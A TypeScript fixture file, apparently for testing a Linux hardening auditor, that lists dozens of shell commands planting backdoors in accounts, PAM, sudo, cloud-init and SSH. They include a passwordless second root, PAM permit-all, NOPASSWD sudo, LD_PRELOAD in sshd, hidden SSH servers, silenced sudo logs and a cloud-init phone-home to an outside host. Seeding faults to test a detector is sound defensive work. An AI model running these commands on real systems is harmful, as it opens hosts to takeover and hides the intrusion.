import type { Sabotage } from "./sabotage.ts";

/** A file of the SSH server that comes before or after any other. */
const ssh = (text: string, name = "00-earlier.conf") =>
  `printf '%s\\n' ${text
    .split("\n")
    .map((line) => `'${line}'`)
    .join(" ")} >/etc/ssh/sshd_config.d/${name}`;

/** What a package with root's rights would leave behind: accounts, PAM, sudo and SSH. */
export const accountRows: readonly Sabotage[] = [
  [["passwords"], "an account has a password", "usermod --password '$6$salt$hash' admin"],
  [
    ["passwords"],
    "an account has an empty password",
    "sed -i 's/^admin:[^:]*/admin:/' /etc/shadow",
  ],
  [
    ["passwords"],
    "an account has its password in the file that everybody reads",
    "sed -i 's/^admin:x:/admin:$1$a$b:/' /etc/passwd",
  ],
  [
    ["open-files:users", "passwords"],
    "an account is unknown to the file of passwords",
    "sed -i '/^admin:/d' /etc/shadow",
  ],
  [
    ["passwords"],
    "a password lets everybody into a group",
    "sed -i 's/^sudo:[^:]*:/sudo:$6$salt$hash:/' /etc/gshadow",
  ],
  [
    ["open-files:users", "passwords", "accounts"],
    "a second root has no password",
    "echo 'toor::0:0::/root:/bin/bash' >>/etc/passwd",
  ],
  [
    ["open-files:users", "accounts"],
    "a locked account is root",
    "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash second; usermod -L second",
  ],
  [
    ["open-files:users", "accounts"],
    "an account's UID is root's in another spelling",
    "useradd deputy; sed -i 's/^deputy:x:[0-9]*/deputy:x:00/' /etc/passwd",
  ],
  [
    ["open-files:users"],
    "an account's shell has the name of one that lets nobody in",
    "mkdir /srv/b; cp /bin/bash /srv/b/false; useradd -M -d /nonexistent -s /srv/b/false deputy; echo 'deputy - nofile 99' >/etc/security/limits.d/zzz.conf",
  ],
  // Its running process has the group of before, which is none of its own any more.
  [["accounts", "application:confined"], "an account has root's group", "usermod --gid 0 afterpay"],
  [["accounts"], "an account is in a group that sudo trusts", "gpasswd --add afterpay sudo"],
  [["accounts"], "an account can read every password", "gpasswd --add afterpay shadow"],
  [
    ["accounts", "integrity:added", "application:confined"],
    "accounts lead to root by a primary group, as an administrator, by a second name of a group, and by systemd (each is seen alone)",
    "usermod --gid shadow afterpay; gpasswd -A afterpay sudo; groupadd -o -g 42 readers; mkdir /etc/userdb; echo '{}' >/etc/userdb/eve.user",
  ],
  [["accounts"], "a second group has root's id", "groupadd --non-unique --gid 0 wheels"],
  [
    ["accounts"],
    "accounts come from a database that nobody looks into",
    "sed -i 's/^passwd:.*/passwd: files db/' /etc/nsswitch.conf",
  ],
  [
    ["accounts:valid"],
    "an account expires, and its key with it",
    "chage --expiredate 2099-01-01 admin",
  ],
  [
    ["accounts:valid"],
    "a locked password grows old, and keys are refused",
    "sed -i 's/ no_pass_expiry//' /etc/pam.d/common-account; chage --maxdays 30 admin; sed -i 's/^PASS_MAX.*/PASS_MAX_DAYS 99999/' /etc/login.defs",
  ],
  [
    ["pam"],
    "PAM lets everybody in",
    "sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/common-auth",
  ],
  [
    ["pam"],
    "PAM goes on after a wrong password",
    "sed -i 's/\\(success=[0-9]\\) default=ignore\\(.*pam_unix\\)/\\1 default=\\1\\2/; s/default=success=/default=/' /etc/pam.d/common-auth; grep 'default=[0-9].*pam_unix' /etc/pam.d/common-auth",
  ],
  [["pam"], "an empty password is one", "sed -i '/pam_unix/s/$/ nullok/' /etc/pam.d/common-auth"],
  [
    ["pam"],
    "a module of an attacker decides alone",
    "echo 'auth sufficient pam_listfile.so item=user sense=allow file=/etc/shells onerr=succeed' >/etc/pam.d/sshd.new; cat /etc/pam.d/sshd >>/etc/pam.d/sshd.new; mv /etc/pam.d/sshd.new /etc/pam.d/sshd",
  ],
  [["pam"], "a service lets everybody in", "echo 'auth required pam_permit.so' >/etc/pam.d/chsh"],
  [
    ["pam"],
    "every login starts a program as root",
    "echo 'session optional pam_exec.so /usr/local/bin/hook' >>/etc/pam.d/common-session",
  ],
  [
    ["pam"],
    "every login loads a module from elsewhere",
    "cp /usr/lib/x86_64-linux-gnu/security/pam_permit.so /srv/x.so; echo 'session optional /srv/x.so' >>/etc/pam.d/common-session",
  ],
  [
    ["pam"],
    "services ask only what everybody meets, and the refusal of one of them does not count",
    "printf 'auth required pam_succeed_if.so uid >= 0\\n@include common-account\\n@include common-session\\n' >/etc/pam.d/login; printf 'auth optional pam_deny.so\\nauth required pam_permit.so\\n' >/etc/pam.d/chsh",
  ],
  [
    ["sudo"],
    "the application may become root",
    "echo 'afterpay ALL=(ALL) NOPASSWD:ALL' >/etc/sudoers.d/x; chmod 440 /etc/sudoers.d/x",
  ],
  [
    ["sudo"],
    "an alias in a file that another one includes, for a UID that nobody has yet",
    "mkdir -p /opt/x; printf 'User_Alias X = #4711\\nX ALL = (ALL) \\\\\\n  NOPASSWD: ALL\\n' >/opt/x/rules; chmod 440 /opt/x/rules; echo '@include /opt/x/rules' >>/etc/sudoers",
  ],
  [
    ["sudo"],
    "a group of sudo's needs no password",
    "echo '%sudo ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/zz; chmod 440 /etc/sudoers.d/zz",
  ],
  [
    ["sudo"],
    "sudo asks nobody",
    "echo 'Defaults !authenticate' >/etc/sudoers.d/zz; chmod 440 /etc/sudoers.d/zz",
  ],
  [
    ["sudo"],
    "plugins of a known name come from elsewhere, and sudo starts a program for everybody (each is seen alone)",
    "printf 'Plugin sudoers_policy /opt/sudoers.so\\nPath plugin_dir /opt/\\n' >/etc/sudo.conf; printf 'Defaults group_plugin=\"/opt/x.so\"\\nDefaults mailerpath=/opt/x\\n' >/etc/sudoers.d/zz; chmod 440 /etc/sudoers.d/zz",
  ],
  [
    ["first-boot"],
    "cloud-init gives root a password on every new server",
    "printf 'chpasswd: { expire: false, users: [{ name: root, password: letmein, type: text }] }\\n' >/etc/cloud/cloud.cfg.d/99-x.cfg",
  ],
  [
    ["first-boot"],
    "cloud-init makes another account",
    "printf 'users:\\n - default\\n - name: deputy\\n   sudo: ALL=(ALL) NOPASSWD:ALL\\n' >/etc/cloud/cloud.cfg.d/99-x.cfg",
  ],
  [
    ["first-boot"],
    "cloud-init gives its rights to the application's account",
    "printf 'system_info:\\n  default_user:\\n    name: afterpay\\n' >/etc/cloud/cloud.cfg.d/99-x.cfg",
  ],
  [
    ["first-boot"],
    "cloud-init starts programs, installs packages, reports elsewhere and reads another source (each is seen alone)",
    "printf '%s\\n' 'snap: { commands: [[sh, /srv/x]] }' 'random_seed: { command: [sh, /srv/x] }' 'packages: [nmap]' 'phone_home: { url: \"http://x/\" }' 'datasource: { NoCloud: { seedfrom: \"http://198.51.100.9/\" } }' >/etc/cloud/cloud.cfg.d/99-x.cfg",
  ],
  [
    ["first-boot"],
    "cloud-init finds other user data than EC2's",
    "mkdir -p /var/lib/cloud/seed/nocloud; touch /var/lib/cloud/seed/nocloud/meta-data /var/lib/cloud/seed/nocloud/user-data",
  ],
  [
    ["first-boot"],
    "cloud-init runs a script at every boot",
    "mkdir -p /var/lib/cloud/scripts/per-boot; echo true >/var/lib/cloud/scripts/per-boot/x",
  ],
  [["logins"], "a later line widens the mask", "echo 'umask 000' >>/etc/profile"],
  [["logins"], "everybody may try su", "sed -i '/pam_wheel/d' /etc/pam.d/su"],
  [
    ["logins"],
    "sudo's log goes nowhere",
    "echo 'Defaults logfile=/dev/null' >/etc/sudoers.d/zz; chmod 440 /etc/sudoers.d/zz",
  ],
  [["logins"], "the banner names the system", "echo 'Debian \\\\r' >/etc/issue.net"],
  [
    ["ssh:passwords"],
    "SSH takes passwords",
    "sed -i 's/^PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config",
  ],
  [
    ["ssh:passwords"],
    "SSH takes passwords by way of questions",
    `sed -i '/^KbdInteractive/d' /etc/ssh/sshd_config; ${ssh("ChallengeResponseAuthentication yes")}`,
  ],
  [
    ["ssh:passwords"],
    "a file says otherwise, although another comes first",
    ssh("PasswordAuthentication yes", "99-later.conf"),
  ],
  [
    ["ssh:passwords"],
    "SSH takes tickets, and asks neither modes nor PAM (each is seen alone)",
    ssh("GSSAPIAuthentication yes\nStrictModes no\nUsePAM no"),
  ],
  [["ssh:passwords"], "SSH trusts what other servers say", ssh("HostbasedAuthentication=yes")],
  [
    ["ssh:root"],
    "root may log in with a key",
    "sed -i '1i PermitRootLogin prohibit-password' /etc/ssh/sshd_config",
  ],
  [
    ["ssh:passwords", "ssh:forwarding"],
    "SSH opens for one account",
    ssh("Match User admin\n  PasswordAuthentication yes\n  AllowTcpForwarding yes", "99-x.conf"),
  ],
  [
    ["ssh:passwords", "ssh:root"],
    "SSH opens for one subnet that nobody asks about",
    ssh(
      'Match Address 10.77.0.0/24\n  "permitrootlogin" yes\n  PasswordAuthentication "yes"',
      "99-x.conf",
    ),
  ],
  [
    ["ssh:forwarding"],
    "SSH forwards for an account, by a file of another folder",
    "mkdir -p /opt/x; printf 'Match User admin\\nAllowAgentForwarding yes\\n' >/opt/x/a; echo 'Include /opt/x/*' >/etc/ssh/sshd_config.d/99-x.conf",
  ],
  [
    ["ssh:forwarding"],
    "SSH forwards ports",
    "sed -i '/^DisableForwarding/d; s/^AllowTcpForwarding no/AllowTcpForwarding yes/' /etc/ssh/sshd_config",
  ],
  [
    ["ssh:strong"],
    "SSH has old ciphers",
    "sed -i '1i Ciphers aes128-cbc,aes256-ctr' /etc/ssh/sshd_config",
  ],
  [
    ["ssh:strong"],
    "SSH lets a group try for ever",
    ssh("Match Group users\n  MaxAuthTries 99", "99-x.conf"),
  ],
  [
    ["ssh:strong"],
    "the SSH server waits longer than it should",
    "sed -i '1i LoginGraceTime 0' /etc/ssh/sshd_config",
  ],
  [
    ["pam"],
    "a link leads to rules of another folder",
    "mkdir -p /opt/x; printf 'auth sufficient pam_permit.so\\n' >/opt/x/a; cat /etc/pam.d/chsh >>/opt/x/a; ln -sf /opt/x/a /etc/pam.d/chsh",
  ],
  [
    ["ssh:server"],
    "a unit that is a link starts a second SSH server",
    "mkdir -p /opt/x; printf '[Service]\\nExecStart=/usr/sbin/sshd -D -p 22\\n' >/opt/x/a; ln -s /opt/x/a /etc/systemd/system/maintenance.service",
  ],
  [
    ["ssh:keys"],
    "a key came after the lock",
    "install -d -m 700 -o admin -g admin /home/admin/.ssh; echo 'ssh-ed25519 AAAA x' >/home/admin/.ssh/authorized_keys",
  ],
  [
    ["ssh:keys"],
    "every server has the same host key, and every new account a key (each is seen alone)",
    `ssh-keygen -qt ed25519 -N '' -f /usr/share/hostkey; ${ssh("HostKey /usr/share/hostkey")}; install -D /usr/share/hostkey.pub /etc/skel/.ssh/authorized_keys`,
  ],
  [["ssh:keys"], "keys are elsewhere", ssh("AuthorizedKeysFile /etc/ssh/keys/%u", "99-x.conf")],
  [
    ["ssh:keys"],
    "a program says who has which key, for one subnet",
    ssh(
      "Match Address 10.77.0.0/24\nAuthorizedKeysCommand /usr/local/bin/keys %u\nAuthorizedKeysCommandUser nobody",
      "99-x.conf",
    ),
  ],
  [
    ["ssh:keys"],
    "another authority signs keys",
    ssh("TrustedUserCAKeys /etc/ssh/ca.pub", "99-x.conf"),
  ],
  [
    ["ssh:server"],
    "the SSH server starts with a setting of its unit",
    "mkdir -p /etc/systemd/system/ssh.service.d; printf '[Service]\\nExecStart=\\nExecStart=/usr/sbin/sshd -D -o PermitRootLogin=yes\\n' >/etc/systemd/system/ssh.service.d/x.conf",
  ],
  [
    ["ssh:server"],
    "the SSH server starts with a setting of its variables",
    `echo 'SSHD_OPTS="-o PasswordAuthentication=yes"' >/etc/default/ssh`,
  ],
  [
    ["ssh:server"],
    "the SSH server starts with a library",
    "mkdir -p /etc/systemd/system/ssh.service.d; printf '[Service]\\nEnvironment=LD_PRELOAD=/opt/x.so\\n' >/etc/systemd/system/ssh.service.d/x.conf",
  ],
  [
    ["ssh:server"],
    "every service starts with a library, and so does the SSH server",
    "mkdir -p /etc/systemd/system/service.d; printf '[Service]\\nEnvironment=LD_PRELOAD=/opt/x.so\\n' >/etc/systemd/system/service.d/x.conf",
  ],
  [
    ["ssh:server"],
    "a second SSH server starts for another file",
    "printf '[Service]\\nExecStart=/usr/sbin/sshd -D -f /opt/sshd_config\\n[Install]\\nWantedBy=multi-user.target\\n' >/etc/systemd/system/maintenance.service",
  ],
  [
    ["ssh:server"],
    "consoles need no login, and a unit of another folder starts a second SSH server (each is seen alone)",
    "systemctl enable debug-shell; mkdir -p /etc/systemd/system/serial-getty@ttyS0.service.d /etc/systemd/system.control; printf '[Service]\\nExecStart=\\nExecStart=-/sbin/agetty --autologin root - $TERM\\n' >/etc/systemd/system/serial-getty@ttyS0.service.d/x.conf; printf '[Service]\\nExecStart=/usr/sbin/sshd -D -f /opt/x\\n' >/etc/systemd/system.control/maintenance.service",
  ],
  [
    ["ssh:server"],
    "a socket starts a second SSH server",
    "printf '[Service]\\nExecStart=-/usr/sbin/sshd -i -o PermitRootLogin=yes\\n' >'/etc/systemd/system/maintenance@.service'",
  ],
];
